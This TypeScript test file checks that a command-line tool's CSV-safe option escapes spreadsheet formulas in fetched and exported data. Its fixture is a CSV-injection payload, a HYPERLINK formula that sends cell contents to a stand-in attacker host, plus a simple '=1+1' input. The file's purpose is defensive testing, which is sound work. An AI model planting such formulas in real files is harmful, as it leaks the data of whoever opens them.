import assert from 'node:assert/strict';
import { readFileSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { abreast, folder } from './abreast.ts';

const FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"ok")';

let server: Server;
let url: string;
before(async () => {
  server = createServer((_, response) => response.end(FORMULA)).listen(0, '127.0.0.1');
  await new Promise((ready) => server.once('listening', ready));
  url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});
after(() => server.close());

const cellsOf = (path: string): Record<string, string>[] =>
  parse(readFileSync(path, 'utf8'), { columns: true });

test('get --csv-safe writes no formula that a server or a list has sent, and --resume knows its input', async () => {
  const cwd = folder();
  writeFileSync(join(cwd, 'urls.txt'), `=1+1\n${url}/a\n`);
  const args = ['get', '-f', 'urls.txt', '-o', 'out.csv', '--csv-safe', '-q'];
  assert.equal((await abreast(args, { cwd })).code, 1);
  const rows = cellsOf(join(cwd, 'out.csv')).sort((one, other) => Number(one.index) - Number(other.index));
  assert.deepEqual(
    rows.map(({ input, body }) => [input, body]),
    [
      ["'=1+1", ''],
      [`${url}/a`, `'${FORMULA}`],
    ],
  );
  const again = await abreast([...args, '--resume'], { cwd });
  assert.equal(again.code, 0, again.err);
});

test('report --csv-safe is of every CSV file of the report, and csvSafe of one', async () => {
  const cwd = folder();
  writeFileSync(
    join(cwd, 'report.yaml'),
    `requests:
  - { name: gets, url: "${url}" }
crunch:
  - { name: said, sql: "select body_text, -1 as change from gets" }
dump:
  - { table: said, to: plain.csv }
  - { table: said, to: safe.csv, csvSafe: true }
`,
  );
  const said = () => ['plain.csv', 'safe.csv'].map((name) => cellsOf(join(cwd, name))[0]);
  const safe = { body_text: `'${FORMULA}`, change: '-1' };
  assert.equal((await abreast(['report', 'report.yaml', '-q'], { cwd })).code, 0);
  assert.deepEqual(said(), [{ ...safe, body_text: FORMULA }, safe]);
  assert.equal((await abreast(['report', 'report.yaml', '-q', '--csv-safe'], { cwd })).code, 0);
  assert.deepEqual(said(), [safe, safe]);
});
